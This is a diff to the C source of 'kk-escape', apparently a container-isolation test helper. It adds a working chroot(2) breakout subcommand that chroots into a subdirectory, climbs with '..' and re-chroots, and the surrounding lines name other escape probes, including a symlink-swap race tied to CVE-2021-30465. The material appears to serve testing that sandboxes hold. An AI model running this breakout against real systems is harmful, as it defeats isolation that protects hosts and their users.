@@ -22,6 +22,11 @@
  *   kk-escape fds PID|self
  *       prints "N -> target" for every open fd of PID (of itself for "self", without the
  *       directory fd it reads /proc/self/fd through).
+ *   kk-escape chroot-escape DIR
+ *       the classic chroot(2) escape (needs CAP_SYS_CHROOT): chroot into a subdirectory
+ *       while keeping the cwd outside it, walk up with "..", chroot("."); then prints
+ *       entries=N for DIR in the root it reached (e.g. /proc: 0 when no procfs is mounted
+ *       there) and escaped=1 if the reached root differs from the one it started in.
  *   kk-escape swap PATH TARGET
  *       CVE-2021-30465 / CVE-2025-52565 (host side): make PATH a directory and PATH.kk-swap
  *       a symlink to TARGET, then exchange them (renameat2 RENAME_EXCHANGE) in a loop until
@@ -422,6 +427,33 @@ static int swap(const char *path, const char *target)
 	return 0;
 }
 
+static int chroot_escape(const char *dir)
+{
+	struct stat before, after;
+	if (stat("/", &before) < 0 || (mkdir("/kk-chroot-escape", 0700) < 0 && errno != EEXIST) || chdir("/") < 0 ||
+	    chroot("/kk-chroot-escape") < 0) {
+		printf("step=chroot errno=%d\n", errno);
+		return 2;
+	}
+	for (int i = 0; i < 256; i++)
+		if (chdir("..") < 0)
+			break;
+	if (chroot(".") < 0) {
+		printf("step=chroot-dot errno=%d\n", errno);
+		return 2;
+	}
+	stat("/", &after);
+	long n = 0;
+	DIR *d = opendir(dir);
+	for (struct dirent *e; d && (e = readdir(d));)
+		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
+			n++;
+	if (d)
+		closedir(d);
+	printf("escaped=%d\nentries=%ld\n", before.st_dev != after.st_dev || before.st_ino != after.st_ino, n);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -435,7 +467,9 @@ int main(int argc, char **argv)
 		return fds(argv[2]);
 	if (argc >= 4 && strcmp(argv[1], "swap") == 0)
 		return swap(argv[2], argv[3]);
+	if (argc >= 3 && strcmp(argv[1], "chroot-escape") == 0)
+		return chroot_escape(argv[2]);
 	fprintf(stderr, "usage: kk-escape landlock-abi | exe-attack MILLIS | release-agent | fds PID|self | swap PATH "
-			"TARGET\n");
+			"TARGET | chroot-escape DIR\n");
 	return 2;
 }
